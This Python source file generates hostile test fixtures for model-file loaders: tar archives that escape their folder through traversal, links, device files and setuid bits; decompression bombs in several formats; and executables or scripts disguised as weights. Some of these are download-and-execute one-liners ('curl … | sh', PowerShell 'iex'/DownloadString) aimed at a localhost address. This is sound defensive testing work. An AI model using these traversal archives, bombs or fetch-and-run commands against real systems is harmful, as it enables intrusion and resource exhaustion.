"""Archives that write outside their folder, link, lie about their sizes, or carry programs."""

from __future__ import annotations

import bz2
import gzip
import lzma
import struct
import tarfile
import zlib
from collections.abc import Iterator

from hostile_nested import seven_zip, tarred, zstd_frame
from hostile_units import Unit
from hostile_zip_writer import member, zipped

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(200)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x8664, 0) + bytes(200)
MACH_O = b"\xcf\xfa\xed\xfe" + struct.pack("<II", 0x100000C, 0) + bytes(200)


def units() -> Iterator[Unit]:
    """All of them."""
    yield from _tar()
    yield from _compressed()
    yield from _programs()


def _link(name: str, to: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, to
    return info


def _tar() -> Iterator[Unit]:
    device = tarfile.TarInfo("planted")
    device.type = tarfile.CHRTYPE
    pipe = tarfile.TarInfo("planted")
    pipe.type = tarfile.FIFOTYPE
    setuid = tarfile.TarInfo("planted")
    setuid.mode = 0o4755
    odd: dict[str, tuple[bytes, str]] = {
        "traversal": (tarred({"../../planted": b"planted"}), "path out of the archive"),
        "absolute": (tarred({"/tmp/planted": b"planted"}), "absolute path"),  # noqa: S108
        "symlink-out": (tarred({"a": b"1"}, _link("b", "/etc/planted")), "link out of the archive"),
        "symlink-then-write": (
            tarred({}, _link("d", "../.."))[:512] + tarred({"d/planted": b"planted"}),
            "write through a link",
        ),
        "hardlink-out": (tarred({"a": b"1"}, _link("b", "../../planted", tarfile.LNKTYPE)), "link out of the archive"),
        "device": (tarred({"a": b"1"}, device), "device file"),
        "fifo": (tarred({"a": b"1"}, pipe), "named pipe"),
        "setuid": (tarred({"a": b"1"}, setuid), "set-user-id bit"),
        "duplicate": (tarred({"a": b"1"})[:1024] + tarred({"a": b"planted"}), "two members of one name"),
        "tail": (tarred({"a": b"1"}) + b"planted" * 200, "bytes after the archive"),
        "size-octal-lies": (_size_lie(), "member beyond the file"),
        "checksum": (tarred({"a": b"1"}).replace(b"ustar", b"ustax", 1), "header checksum"),
    }
    for way, (data, expect) in odd.items():
        yield Unit(
            f"archives/{way}.tar", data, "integrity", "tar", f"tar archive: {expect}", "tarfile.extractall", expect
        )
    sparse = tarfile.TarInfo("planted")
    sparse.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.realsize": str(2**50)}
    yield Unit(
        "archives/sparse.tar",
        tarred({}, sparse),
        "resource",
        "tar",
        "a sparse member of 2^50 bytes",
        "tarfile.extractall",
        "sparse member beyond reason",
    )


def _size_lie() -> bytes:
    data = bytearray(tarred({"a": b"1"}))
    data[124:136] = b"77777777777\0"
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\0 " % sum(data[:512])
    return bytes(data)


def _compressed() -> Iterator[Unit]:
    zeros = bytes(2**28)
    bombs = {
        "gz": gzip.compress(zeros, 9, mtime=0),
        "bz2": bz2.compress(zeros),
        "xz": lzma.compress(zeros, preset=1),
        "zlib": zlib.compress(zeros, 9),
        "tar.gz": gzip.compress(tarred({"zeros": zeros}), 9, mtime=0),
    }
    for suffix, data in bombs.items():
        yield Unit(
            f"archives/bomb.{suffix}",
            data,
            "resource",
            suffix,
            "256 MiB of zeros, a thousandth packed",
            "any loader that unpacks",
            "unpacks to a thousand times its size",
        )
    twice = gzip.compress(bombs["gz"], 9, mtime=0)
    yield Unit(
        "archives/bomb.gz.gz",
        twice,
        "resource",
        "gz",
        "two layers of gzip over 256 MiB of zeros",
        "any loader that unpacks",
        "unpacks to a thousand times its size",
    )
    block = (2**17 << 3 | 1 << 1).to_bytes(3, "little") + b"\0"
    last = (2**17 << 3 | 1 << 1 | 1).to_bytes(3, "little") + b"\0"
    rle = b"\x28\xb5\x2f\xfd\xc0\x58" + struct.pack("<Q", 2**17 * 8000) + block * 7999 + last
    yield Unit(
        "archives/bomb.zst",
        rle,
        "resource",
        "zst",
        "1 GiB of zeros in 32 kB of run-length blocks",
        "any loader that unpacks",
        "unpacks to a thousand times its size",
    )
    tails: dict[str, bytes] = {
        "tail.gz": gzip.compress(b"planted", mtime=0) + b"planted" * 30,
        "tail.xz": lzma.compress(b"planted") + b"planted" * 30,
        "tail.zst": zstd_frame(b"planted") + b"planted" * 30,
        "crc.gz": gzip.compress(b"planted" * 9, mtime=0)[:-8] + bytes(8),
        "cut.bz2": bz2.compress(b"planted" * 900)[:-10],
        "tail.7z": seven_zip("planted.txt", b"planted") + ELF,
    }
    for name, data in tails.items():
        yield Unit(
            f"archives/{name}",
            data,
            "integrity",
            name.rsplit(".", 1)[-1],
            "bytes after the end, or an end that does not fit",
            "any loader that unpacks",
            "bytes after the stream, or checksum",
        )
    yield Unit(
        "archives/traversal.7z",
        seven_zip("../../planted", b"planted"),
        "integrity",
        "7z",
        "a member's name climbs out",
        "py7zr",
        "path out of the archive",
    )
    yield Unit(
        "archives/elf.7z",
        seven_zip("model.bin", ELF),
        "code",
        "7z",
        "a program called model.bin in a 7z archive",
        "the system's program loader",
        "a program",
    )


def _programs() -> Iterator[Unit]:
    """Programs and libraries where weights are expected."""
    named: dict[str, tuple[bytes, str]] = {
        "libplanted.so": (ELF, "elf"),
        "model.bin": (ELF, "elf"),
        "weights.onnx": (ELF, "elf"),
        "planted.dll": (PE, "pe"),
        "model.pt": (PE, "pe"),
        "planted.dylib": (MACH_O, "mach-o"),
        "model.dat": (MACH_O, "mach-o"),
        "fat.bin": (
            b"\xca\xfe\xba\xbe\x00\x00\x00\x01" + bytes(8) + struct.pack(">III", 64, 200, 0) + bytes(40) + MACH_O,
            "mach-o",
        ),
        "planted.class": (b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(100), "java-class"),
        "planted.wasm": (b"\x00asm\x01\x00\x00\x00" + bytes(20), "wasm"),
        "model.llamafile": (_ape(), "ape"),
        "weights.sh": (b"#!/bin/sh\ncurl -s http://127.0.0.1:9/planted | sh\n", "script"),
        "model.h5": (b"#!/usr/bin/env python3\nprint('planted')\n", "script"),
        "planted.bat": (b'@echo off\r\npowershell -c "iex (iwr http://127.0.0.1:9/planted)"\r\n', "script"),
        "planted.ps1": (
            b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/planted')\r\n",
            "script",
        ),
        "planted.lnk": (
            b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + bytes(80),
            "shortcut",
        ),
        "planted.pyc": (b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(60), "python bytecode"),
        "planted.jar": (
            zipped(
                [
                    member("META-INF/MANIFEST.MF", b"Main-Class: Planted\n"),
                    member("Planted.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(100)),
                ]
            ),
            "java archive",
        ),
    }
    for name, (data, format_) in named.items():
        yield Unit(
            f"programs/{name}",
            data,
            "code",
            format_,
            f"a program ({format_}) called {name}",
            "the system's program loader",
            "a program",
        )


def _ape() -> bytes:
    """The head of an Actually Portable Executable: a Windows program that is a shell script too."""
    return (
        b"MZqFpD='\n"
        + b"\0" * 23
        + bytes(28)
        + struct.pack("<I", 128)
        + bytes(64)
        + b"PE\0\0"
        + struct.pack("<HH", 0x8664, 0)
        + bytes(100)
        + b"\n' <<'justine'\nexec planted\n"
    )
